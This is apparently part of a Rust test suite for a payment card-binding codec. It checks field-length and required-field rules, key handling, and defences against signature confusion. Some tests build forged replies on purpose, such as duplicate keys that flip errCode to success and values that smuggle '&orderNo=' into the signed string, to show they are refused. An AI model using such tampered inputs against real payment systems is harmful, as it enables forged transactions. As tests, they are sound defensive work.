    let shown = format!("{cfg:?} {:?}", VbaoCodec::new(cfg.clone()).unwrap());
    assert!(!shown.contains(SIGN_KEY));
    assert!(!shown.contains("PRIVATE KEY"));
    assert!(!shown.contains(&VBAO_PUBLIC_2048[40..80]));
}

/// The notification's and the reply's spec constraints are what their encoders enforce too.
#[test]
fn spec_notification_and_reply_constraints_are_what_the_encoders_enforce() {
    let spec = spec();
    let vbao = vbao();
    let notify = |f: &Map<String, Value>| vbao.encode_request(BIND_NOTIFY, f, &mut Context::new(&mut rng(), None));
    let mut full = notify_fields("0000");
    full.insert("bankCode".into(), json!("ICBC"));
    full.insert("bankCardType".into(), json!("DEBIT"));
    full.insert("bankCardNo".into(), json!("6222********1234"));
    assert!(notify(&full).is_ok());
    for field in spec
        .operation(BIND_NOTIFY)
        .unwrap()
        .request
        .iter()
        .filter(|f| f.name != "sign")
    {
        let mut f = full.clone();
        f.remove(&field.name);
        match (field.name.as_str(), notify(&f)) {
            // The codec fills customerNo in from its configuration.
            ("customerNo", result) => assert!(result.is_ok()),
            (_, Ok(_)) => assert_eq!(field.required, json!(false), "{}", field.name),
            (name, Err(e)) if field.required == json!("conditional") => {
                assert_eq!(
                    validation(&e),
                    (
                        name,
                        &ValidationRule::RequiredWhen {
                            condition: "errCode is 0000".into()
                        }
                    )
                );
            }
            (name, Err(e)) => {
                assert_eq!(field.required, json!(true), "{name}");
                assert_eq!(validation(&e), (name, &ValidationRule::Required));
            }
        }
        let max = field.max_length.unwrap();
        let mut f = full.clone();
        f.insert(field.name.clone(), Value::String("x".repeat(max + 1)));
        assert_eq!(
            validation(&notify(&f).unwrap_err()),
            (field.name.as_str(), &ValidationRule::MaxLength { max }),
            "{}",
            field.name
        );
    }
    let reply = |f: &Map<String, Value>| vbao.encode_response(BIND_CARD_CREATE, f, &mut Context::new(&mut rng(), None));
    let base = obj(json!({"customerNo": CUSTOMER_NO, "orderNo": "o", "errCode": "0000", "errMessage": "m"}));
    for field in &spec.operation(BIND_CARD_CREATE).unwrap().response {
        let Some(max) = field.max_length else { continue };
        if field.name == "sign" {
            continue;
        }
        let mut f = base.clone();
        f.insert(field.name.clone(), Value::String("x".repeat(max + 1)));
        assert_eq!(
            validation(&reply(&f).unwrap_err()),
            (field.name.as_str(), &ValidationRule::MaxLength { max }),
            "{}",
            field.name
        );
    }
}

#[test]
fn replies_and_notifications_span_blocks_under_1024_bit_keys() {
    let mut r = rng();
    let long = "参数".repeat(150);
    let fields = obj(json!({
        "orderNo": "o",
        "errCode": "0000",
        "errMessage": "成功",
        "submitUrl": "https://bank.example/p",
        "submitMethod": "POST",
        "submitParams": json!({"epccGwMsg": long}).to_string()
    }));
    let reply = vbao_with(VBAO_PRIVATE_1024)
        .encode_response(BIND_CARD_CREATE, &fields, &mut Context::new(&mut r, None))
        .unwrap();
    let decoded = merchant_with(VBAO_PUBLIC_1024)
        .decode_response(BIND_CARD_CREATE, &reply, &mut Context::new(&mut r, None))
        .unwrap();
    for (k, v) in &fields {
        assert_eq!(&decoded.fields[k], v);
    }
    let form = VbaoCodec::submit_form(&decoded).unwrap();
    assert!(form.contains(&format!("value=\"{long}\"")));
    let mut notification = notify_fields("0000");
    notification.insert("errMessage".into(), json!("成".repeat(200)));
    let request = vbao_with(VBAO_PRIVATE_1024)
        .encode_request(BIND_NOTIFY, &notification, &mut Context::new(&mut r, None))
        .unwrap();
    let received = merchant_with(VBAO_PUBLIC_1024)
        .decode_request(&request, &mut Context::new(&mut r, None))
        .unwrap();
    assert_eq!(received.fields["errMessage"], notification["errMessage"]);
}

// ---------------------------------------------------------------------------------------------
// signature confusion (issue 15): a verified message hands out exactly what was signed
// ---------------------------------------------------------------------------------------------

fn genuine_failure_reply() -> Map<String, Value> {
    let plain = signed_plaintext(obj(
        json!({"customerNo": CUSTOMER_NO, "orderNo": "O1", "errCode": "2002", "errMessage": "e"}),
    ));
    serde_json::from_slice(&plain).unwrap()
}

fn reply_text(text: &str) -> Result<cardbind::DecodedResponse, CodecError> {
    decode_reply(&reply_around(text.as_bytes(), VBAO_PRIVATE_2048))
}

#[test]
fn repeated_keys_are_refused_inside_reqmsg_and_in_the_envelope() {
    let genuine = Value::Object(genuine_failure_reply()).to_string();
    assert!(reply_text(&genuine).is_ok());
    let repeated = genuine.replacen('{', r#"{"errCode":"0000","#, 1);
    assert_eq!(
        reply_text(&repeated).unwrap_err(),
        CodecError::Malformed {
            field: "reqmsg.errCode".into(),
            reason: "duplicate key: the name occurs twice in one JSON object".into()
        }
    );
    let outer = reply_around(genuine.as_bytes(), VBAO_PRIVATE_2048);
    let body = String::from_utf8(outer.body.clone())
        .unwrap()
        .replacen('{', r#"{"code":"500","#, 1);
    let err = decode_reply(&HttpResponse::new(200, "application/json", body.into_bytes())).unwrap_err();
    assert_eq!(malformed_field(&err), "body.code");
}

#[test]
fn empty_and_null_values_are_not_handed_out_by_a_verified_reply() {
    let mut fields = genuine_failure_reply();
    fields.insert("submitMethod".into(), json!(""));
    fields.insert("submitUrl".into(), Value::Null);
    let decoded = reply_text(&Value::Object(fields).to_string()).unwrap();
    assert_eq!(decoded.signature, cardbind::model::SignatureCheck::Verified);
    let names: Vec<&str> = decoded.fields.keys().map(String::as_str).collect();
    assert_eq!(names, ["customerNo", "orderNo", "errCode", "errMessage", "sign"]);
}

#[test]
fn fields_folded_into_a_value_that_re_splits_are_refused() {
    // {errMessage: "e", orderNo: "O1"} signs `errMessage=e&orderNo=O1`; so does {errMessage:
    // "e&orderNo=O1"} with orderNo deleted. Only the first can have been signed by the rule.
    let mut fields = genuine_failure_reply();
    fields.remove("orderNo");
    fields.insert("errMessage".into(), json!("e&orderNo=O1"));
    let err = reply_text(&Value::Object(fields).to_string()).unwrap_err();
    assert_eq!(validation(&err), ("errMessage", &ValidationRule::SplitsInSignedString));
    // Vbao's side never signs such a value.
    let err = vbao()
        .encode_response(
            BIND_CARD_CREATE,
            &obj(json!({"orderNo": "O1", "errCode": "2002", "errMessage": "e&orderNo=O2"})),
            &mut Context::new(&mut rng(), None),
        )
        .unwrap_err();
    assert_eq!(validation(&err), ("errMessage", &ValidationRule::SplitsInSignedString));
}

#[test]
fn numbers_are_signed_by_their_exact_text_or_refused() {
    let with = |number: &str| {
        let mut text = Value::Object(genuine_failure_reply()).to_string();
        text.pop();
        format!("{text},\"amount\":{number}}}")
    };
    // A field the spec does not list is refused (the kit's unlisted-field rule); with the opt-in
    // it must still be a string: Vbao signs text, so `1.50` and `"1.50"` would sign alike.
    let err = reply_text(&with("1.50")).unwrap_err();
    assert_eq!(malformed_field(&err), "reqmsg.amount");
    let mut r = rng();
    for number in ["1e2", "[1E+2]", "1.50"] {
        let response = reply_around(with(number).as_bytes(), VBAO_PRIVATE_2048);
        let err = merchant_opted_in()
            .decode_response(BIND_CARD_CREATE, &response, &mut Context::new(&mut r, None))
            .unwrap_err();
        assert_eq!(malformed_field(&err), "reqmsg.amount", "{number}");
    }
}
